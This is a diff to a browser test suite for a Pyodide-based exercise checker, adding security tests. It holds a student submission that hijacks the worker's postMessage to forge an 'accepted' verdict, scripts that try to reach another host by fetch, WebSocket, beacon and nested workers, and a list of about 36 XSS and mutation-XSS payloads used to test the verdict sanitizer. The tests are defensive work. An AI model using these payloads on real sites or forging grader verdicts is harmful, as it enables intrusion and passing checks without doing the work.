@@ -4,7 +4,7 @@ import functools
 import shutil
 import sys
 import threading
-from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
 from types import SimpleNamespace
 
 import nbformat
@@ -273,9 +273,19 @@ def test_a_wrong_answer_is_shown_with_its_idea_and_a_right_one_is_passed(page):
     }
 
 
-FORGED = """import js
-from pyodide.code import run_js
-run_js('''for (let id = 0; id < 100; id++) postMessage({ id, verdict: { outcome: "accepted", html: "<b>forged</b>" } })''')
+FORGED = """from contextlib import suppress
+FORGING = '''const own = self.postMessage, verdict = { outcome: "accepted", html: "<b>forged</b>" };
+self.postMessage = (message) => own.call(self, { ...message, verdict });
+addEventListener("message", ({ data }) => own.call(self, { id: data.id, verdict }));'''
+with suppress(Exception):
+    import js
+    js.eval(FORGING)
+with suppress(Exception):
+    from pyodide.code import run_js
+    run_js(FORGING)
+with suppress(Exception):
+    from pyodide.ffi import to_js
+    to_js([]).constructor.constructor(FORGING)()
 """
 
 
@@ -283,11 +293,168 @@ def test_a_verdict_that_code_in_the_field_sends_is_not_believed(browser, server)
     page = browser.new_page()  # in which nothing is passed yet
     page.set_default_timeout(PATIENCE)
     page.goto(f"{server}/masked_softmax.html")
-    place = handed_in(page, "masked_softmax", FORGED + WRONG)
-    wait_for(place, "valid_length has no effect")
-    expect(place.locator(".in-page-mark")).to_be_hidden()
-    assert "forged" not in place.locator(".in-page-verdict").inner_text()
+    for _ in range(2):  # what it leaves behind would hear of the second check
+        place = handed_in(page, "masked_softmax", FORGED + WRONG)
+        wait_for(place, "valid_length has no effect")
+        expect(place.locator(".in-page-mark")).to_be_hidden()
+        assert "forged" not in place.locator(".in-page-verdict").inner_text()
     page.close()
+
+
+@pytest.fixture
+def elsewhere():
+    """Another host (another port is one to a browser), and what was asked of it."""
+    asked = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_error(404)
+
+        do_POST = do_GET
+
+        def log_message(self, format, *arguments):
+            """Nothing."""
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", asked
+        server.shutdown()
+
+
+CONNECTING = """import urllib.request
+from pyodide import code, ffi, http
+
+def tried(name, way):
+    try:
+        print("reached by", name, way())
+    except Exception as error:
+        print(name, type(error).__name__)
+
+def by_js():
+    import js
+    return js.fetch(ADDRESS)
+
+def by_pyodide():
+    import pyodide_js
+    return pyodide_js
+
+tried("js", by_js)
+tried("pyodide_js", by_pyodide)
+tried("run_js", lambda: code.run_js(f"fetch('{ADDRESS}')"))
+tried("Function", lambda: ffi.to_js([]).constructor.constructor(f"return fetch('{ADDRESS}')")())
+tried("open_url", lambda: http.open_url(ADDRESS))
+tried("urlopen", lambda: urllib.request.urlopen(ADDRESS, timeout=5))
+print("tried all")
+"""
+# What code that got hold of all of JavaScript could do, here and in a worker that it starts.
+CONNECTS = """async (address) => {
+    const socket = () => new Promise((open, fails) => {
+        Object.assign(new WebSocket(address.replace("http", "ws")), { onopen: open, onerror: fails });
+    });
+    const asked = (worker) => new Promise((open, fails) => {
+        Object.assign(worker, { onmessage: open, onerror: fails });
+        setTimeout(fails, 3000);
+    });
+    const text = `fetch("${address}/nested", { mode: "no-cors" }).then(() => postMessage(1), () => postMessage(1))`;
+    const nested = () => asked(new Worker(URL.createObjectURL(new Blob([text]))));
+    const ways = [
+        () => fetch(`${address}/fetch`, { mode: "no-cors" }), () => import(`${address}/import`), socket,
+        () => navigator.sendBeacon?.(`${address}/beacon`, "text"), nested,
+    ];
+    for (const way of ways) await Promise.resolve().then(way).catch(() => {});
+}"""
+
+
+def test_nothing_in_a_field_connects_to_another_host(page, elsewhere):
+    address, asked = elsewhere
+    place = handed_in(page, "masked_softmax", f"ADDRESS = {address!r}\n{CONNECTING}")
+    wait_for(place, "tried all")
+    assert "reached" not in place.locator(".in-page-verdict").inner_text()
+    (worker,) = page.workers
+    for part in (worker, page):
+        part.evaluate(CONNECTS, address)
+    assert asked == []
+
+
+# Each calls `ran` or asks the other host if it is not taken apart.
+HOSTILE = [
+    "<script>ran()</script>",
+    "<scr<script>ipt>ran()</scr</script>ipt>",
+    "<img src=x onerror=ran()>",
+    "<IMG SRC=x OnErRoR=ran()",
+    "<div><b><code><img src=x onerror=ran()></code></b></div>",
+    "<table><tr><td><img src=x onerror=ran()></td></tr><script>ran()</script></table>",
+    "<div onclick=ran() onmouseover=ran() onfocus=ran() tabindex=0 autofocus>over</div>",
+    "<details open ontoggle=ran()>open</details>",
+    "<input autofocus onfocus=ran()>",
+    "<video><source onerror=ran()></video>",
+    "<svg onload=ran()></svg>",
+    "<svg><script>ran()</script></svg>",
+    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
+    "<svg><foreignObject><body><img src=x onerror=ran()></body></foreignObject></svg>",
+    "<svg><style><img src=x onerror=ran()></style></svg>",
+    "<svg><a xlink:href=javascript:parent.ran()><text y=20>link</text></a></svg>",
+    "<a href=javascript:ran()>link</a>",
+    "<b><a href=' java\tscript:ran()'>link</a></b>",
+    "<form action=javascript:ran()><button>send</button></form>",
+    "<button formaction=javascript:ran()>send</button>",
+    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
+    "<iframe src=javascript:parent.ran()></iframe>",
+    "<iframe src=ADDRESS/frame></iframe>",
+    "<object data=ADDRESS/object></object><embed src=ADDRESS/embed>",
+    "<img src=ADDRESS/image><link rel=stylesheet href=ADDRESS/link>",
+    "<style>@import 'ADDRESS/import'; body { background: url(ADDRESS/style) }</style>",
+    "<meta http-equiv=refresh content='0; url=javascript:ran()'><base href=ADDRESS>",
+    "<div style='background: url(ADDRESS/background)'>styled</div>",
+    "<div style='background-image: image-set(\"ADDRESS/set\" 1x)'>styled</div>",
+    r"<div style='--a: u\72l(ADDRESS/escaped); background: var(--a)'>styled</div>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran()&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
+    "<template><img src=x onerror=ran()></template>",
+    "<pre><!-- --!><img src=x onerror=ran()> --></pre>",
+    "<textarea></div><img src=x onerror=ran()></textarea><img src=x onerror=ran()>",
+    "<div><div><div></b></div><td><img src=x onerror=ran()",
+]
+KEPT = {"DIV", "B", "CODE", "TABLE", "CAPTION", "TBODY", "TR", "TD", "PRE", "class", "style"}
+HOLDS = """(verdict) => [...verdict.querySelectorAll("*")].flatMap((one) => [one.nodeName, ...one.getAttributeNames()])"""
+TOUCHED = """(verdict) => [...verdict.querySelectorAll("*")].forEach((one) => {
+    for (const name of ["click", "mouseover"]) one.dispatchEvent(new MouseEvent(name, { bubbles: true }));
+})"""
+SENT = """export const [SECONDS, isBusy, stop] = [1, () => false, () => {}];
+export const check = async () => ({ verdict: { outcome: "rejected", html: window.html, printed: window.html } });
+"""
+
+
+def test_nothing_runs_that_a_verdict_holds(browser, server, elsewhere):
+    """Without the page's policy, which would hide a hole: what is shown is built from a few elements."""
+    address, asked = elsewhere
+    context = browser.new_context(bypass_csp=True)
+    page = context.new_page()
+    page.set_default_timeout(PATIENCE)
+    page.add_init_script("window.runs = 0; window.ran = () => (window.runs += 1)")
+    page.route("**/checker.mjs", lambda route: route.fulfill(body=SENT, content_type="text/javascript"))
+    page.goto(f"{server}/masked_softmax.html")
+    place = opened(page, "masked_softmax")
+    expect(place).to_have_attribute("data-awake", "")
+    verdict, left = place.locator(".in-page-verdict"), {}
+    for text in HOSTILE:
+        page.evaluate("(html) => (window.html = html)", text.replace("ADDRESS", address))
+        place.get_by_role("button", name="Check").click()
+        expect(verdict.locator(".in-page-printed")).to_have_text(text.replace("ADDRESS", address))
+        left[text] = set(verdict.evaluate(HOLDS)) - KEPT
+        verdict.evaluate(TOUCHED)
+    page.wait_for_timeout(1000)
+    assert {text: more for text, more in left.items() if more} == {}
+    assert (page.evaluate("window.runs"), asked) == (0, [])
+    page.evaluate(
+        """window.html = '<div class="verdict" style="opacity: 0.5; color: rgba(1, 2, 3, 0.4)">x</div>'"""
+    )
+    place.get_by_role("button", name="Check").click()
+    expect(verdict.locator("div.verdict")).to_have_attribute(
+        "style", "opacity: 0.5; color: rgba(1, 2, 3, 0.4);"
+    )
+    context.close()
 
 
 def test_a_class_is_passed(page):
